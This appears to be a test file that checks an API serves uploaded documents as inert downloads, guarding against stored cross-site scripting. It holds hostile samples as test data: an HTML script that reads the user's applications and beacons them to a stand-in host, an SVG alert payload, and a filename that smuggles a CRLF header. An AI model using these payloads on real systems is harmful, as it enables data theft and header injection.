// Stored XSS: the local store serves uploaded bytes on the API's own origin. An HTML or SVG
// "document" served inline as its declared type would run script there with the API's cookies and
// origin; object responses must be downloads, of a passive type, that the browser may not sniff or run.
import { CreateBucketCommand, S3Client } from "@aws-sdk/client-s3";
import { client } from "../support/http";
import { createApplication } from "../support/factories";
import { addDocument } from "../support/documents";
import { startS3Server } from "../support/s3";
import { startTestService, type TestService } from "../support/service";

const HTML = Buffer.from(
  `<!doctype html><script>fetch("/api/v1/applications").then(r=>r.text()).then(t=>navigator.sendBeacon("http://127.0.0.1:1/x",t))</script>`,
);
const SVG = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>`);

async function uploadedDocumentUrl(svc: TestService, bytes: Buffer, fileName: string, contentType: string): Promise<string> {
  const api = client(svc.url, (await svc.newAccount()).key);
  const app = await createApplication(api);
  // POST /documents/uploads, PUT to its uploadUrl, POST /documents: the real API path.
  const doc = await addDocument(api, app.id, "OTHER", bytes, { fileName, contentType });
  expect(doc.contentType).toBe(contentType);
  const read = await api.get(`/api/v1/documents/${doc.id}`);
  expect(read.status).toBe(200);
  return read.body.url;
}

describe("local object route", () => {
  let svc: TestService;
  beforeAll(async () => {
    svc = await startTestService();
  });
  afterAll(() => svc.close());

  it.each([
    ["text/html", "invoice.html", HTML],
    ["image/svg+xml", "logo.svg", SVG],
    ["application/xhtml+xml", 'page"\r\nX-Injected: 1.xhtml', HTML],
    ["text/javascript", "x.js", Buffer.from("alert(1)")],
  ])("serves an uploaded %s document as an inert attachment", async (contentType, fileName, bytes) => {
    const url = await uploadedDocumentUrl(svc, bytes, fileName, contentType);
    expect(new URL(url).origin).toBe(new URL(svc.url).origin); // the API's own origin

    const res = await fetch(url);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("application/octet-stream");
    expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="[\w.-]+"$/);
    expect(res.headers.get("x-content-type-options")).toBe("nosniff");
    expect(res.headers.get("content-security-policy")).toBe("default-src 'none'; sandbox");
    expect(res.headers.get("x-injected")).toBeNull();
    expect(Buffer.from(await res.arrayBuffer())).toEqual(bytes); // the bytes themselves are kept intact
  });

  it("keeps a passive type such as application/pdf, still as an attachment", async () => {
    const url = await uploadedDocumentUrl(svc, Buffer.from("%PDF-1.4\n"), "statement.pdf", "application/pdf");
    const res = await fetch(url);
    expect(res.headers.get("content-type")).toBe("application/pdf");
    expect(res.headers.get("content-disposition")).toBe('attachment; filename="statement.pdf"');
    expect(res.headers.get("x-content-type-options")).toBe("nosniff");
  });
});

describe("S3 presigned downloads", () => {
  let s3: Awaited<ReturnType<typeof startS3Server>>;
  let svc: TestService;
  beforeAll(async () => {
    s3 = await startS3Server();
    Object.assign(process.env, { AWS_ACCESS_KEY_ID: "test", AWS_SECRET_ACCESS_KEY: "test" });
    await new S3Client({ endpoint: s3.endpoint, forcePathStyle: true, region: "us-east-1" }).send(new CreateBucketCommand({ Bucket: "xss-docs" }));
    svc = await startTestService({ env: { OBJECT_STORE_URL: "s3://xss-docs", S3_ENDPOINT: s3.endpoint, AWS_REGION: "us-east-1" } });
  });
  afterAll(async () => {
    await svc?.close();
    await s3?.stop();
  });

  it("signs the GET with an attachment disposition and a passive content type", async () => {
    const url = await uploadedDocumentUrl(svc, HTML, "invoice.html", "text/html");
    expect(new URL(url).searchParams.get("response-content-type")).toBe("application/octet-stream");
    expect(new URL(url).searchParams.get("response-content-disposition")).toBe('attachment; filename="invoice.html"');
    const res = await fetch(url);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("application/octet-stream");
    expect(res.headers.get("content-disposition")).toBe('attachment; filename="invoice.html"');
  });
});
